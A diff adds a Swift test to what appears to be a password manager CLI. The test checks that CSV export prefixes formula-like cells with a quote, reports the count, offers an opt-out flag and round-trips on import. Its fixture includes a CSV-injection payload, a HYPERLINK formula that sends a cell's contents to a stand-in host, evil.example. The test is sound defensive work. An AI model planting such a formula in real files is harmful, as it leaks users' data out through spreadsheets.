@@ -197,6 +197,49 @@ import Glibc
         #expect(home.unlocked(["export", "--format", "json", "--plaintext", "--out", home.root.path]).status == 73)
     }
 
+    /// Issue 24 item 7: cells a spreadsheet would run as a formula are
+    /// written with a leading `'` (OWASP's rule), said on stderr by count;
+    /// `--csv-formulas-as-is` writes them unchanged; Coffer's own CSV
+    /// reader takes the quote off again.
+    @Test func csvExportNeutralisesFormulas() throws {
+        let home = TestHome()
+        home.initVault()
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+        #expect(home.unlocked(["add", "a/site", "--type", "login", "--field", "username=@admin", "--field", "url=https://a.example", "--field", "+cmd=+1", "--field", "tabbed=\tx"], stdin: formula + "\n").status == 0)
+        #expect(home.unlocked(["add", "b/site", "--type", "login", "--field", "username=-bob", "--field", "notes='=quoted"], stdin: "plain\n").status == 0)
+        let r = home.unlocked(["export", "--format", "csv", "--plaintext", "--out", "x.csv"])
+        #expect(r.status == 0, "\(r)")
+        let text = try String(contentsOfFile: home.path("x.csv"), encoding: .utf8)
+        let rows = text.split(separator: "\r\n").map(String.init)
+        // Header: the field name "+cmd" is a cell too.
+        #expect(rows[0] == "name,type,tags,expires,username,password,url,notes,totp,'+cmd,tabbed", "\(text)")
+        #expect(rows[1] == "a/site,login,,,'@admin,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",https://a.example,,,'+1,'\tx", "\(text)")
+        #expect(rows[2] == "b/site,login,,,'-bob,plain,,''=quoted,,,", "\(text)")
+        let notes = r.stderr.split(separator: "\n").filter { $0.contains("formula") }
+        #expect(notes.count == 1, "\(r)")
+        #expect(r.stderr.contains("coffer: 6 cells that a spreadsheet would run as formulas were written with a leading ' (--csv-formulas-as-is writes them unchanged)"), "\(r)")
+        #expect(!r.stderr.contains("HYPERLINK") && !r.stderr.contains("@admin"))
+        // Read back by Coffer: the values are the stored ones.
+        let other = TestHome()
+        other.initVault()
+        let imp = other.unlocked(["import", "--from", "csv", home.path("x.csv")])
+        #expect(imp.status == 0, "\(imp)")
+        #expect(get(other, "a/site", "password") == formula)
+        #expect(get(other, "a/site", "username") == "@admin")
+        #expect(get(other, "a/site", "+cmd") == "+1")
+        #expect(get(other, "a/site", "tabbed") == "\tx")
+        #expect(get(other, "b/site", "username") == "-bob")
+        #expect(get(other, "b/site", "notes") == "'=quoted")
+        // The opt-out writes the cells as they are, and says nothing.
+        let raw = home.unlocked(["export", "--format", "csv", "--plaintext", "--csv-formulas-as-is", "--out", "-"])
+        #expect(raw.status == 0, "\(raw)")
+        #expect(raw.stdout.contains(",@admin,\"=HYPERLINK(") && raw.stdout.contains(",-bob,"), "\(raw)")
+        #expect(!raw.stderr.contains("formula"), "\(raw)")
+        // The flag belongs to CSV.
+        let json = home.unlocked(["export", "--format", "json", "--plaintext", "--csv-formulas-as-is", "--out", "-"])
+        #expect(json.status == 64, "\(json)")
+    }
+
     @Test func cofferJSONRoundTripIsLossless() throws {
         let home = TestHome()
         home.initVault()
